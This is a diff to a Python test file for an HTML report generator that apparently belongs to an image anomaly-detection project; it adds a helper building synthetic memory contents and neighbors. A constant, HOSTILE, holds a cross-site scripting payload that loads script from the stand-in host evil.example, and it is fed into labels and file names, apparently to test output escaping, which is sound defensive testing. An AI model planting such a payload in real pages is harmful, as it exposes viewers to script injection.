@@ -3,9 +3,12 @@
 from html.parser import HTMLParser
 
 import numpy as np
+import torch
 
 from simsid.evaluation import Evaluation
-from simsid.report import Example, FilmRow, page_name, write_report
+from simsid.models import MemoryContents
+from simsid.report import Example, FilmRow, MemoryViews, page_name, write_report
+from simsid.report.memory import Neighbors
 
 HOSTILE = '<script src="http://evil.example/x.js">alert(1)</script>&"\'$x_$.png'
 SIGNALS = ("local_residual", "residual", "discriminator_running")
@@ -85,6 +88,22 @@ def rows(count=12, pages=0):
         for i, (path, score) in enumerate(zip(paths[:-1], generator.uniform(size=count)))
     ]
     return [*scored, FilmRow(paths[-1], reason=f"the file is cut short {HOSTILE}")]
+
+
+def memory():
+    """Return the views of a small memory with decoded items, and neighbors of two images."""
+    generator = torch.Generator().manual_seed(3)
+    uses = torch.randint(0, 9, (4, 5), generator=generator)
+    uses[0, :3] = 0
+    items, queries = torch.randn(4, 5, 8, generator=generator), torch.randn(6, 4, 8, generator=generator)
+    decoded = torch.rand(4, 24, 24, generator=generator) * 2 - 1
+    decoded[3, :12, :12] = torch.nan
+    latest = queries.transpose(0, 1)
+    contents = MemoryContents(
+        "in-painting memory", "learned items", items, queries, uses, uses.double(), 20, 2, latest, decoded
+    )
+    near = [(f"{i}{HOSTILE}", examples()[i].input) for i in range(3)]
+    return MemoryViews([contents], neighbors=[Neighbors(HOSTILE, examples()[0].input, near)] * 2)
 
 
 def write(path, **changes):
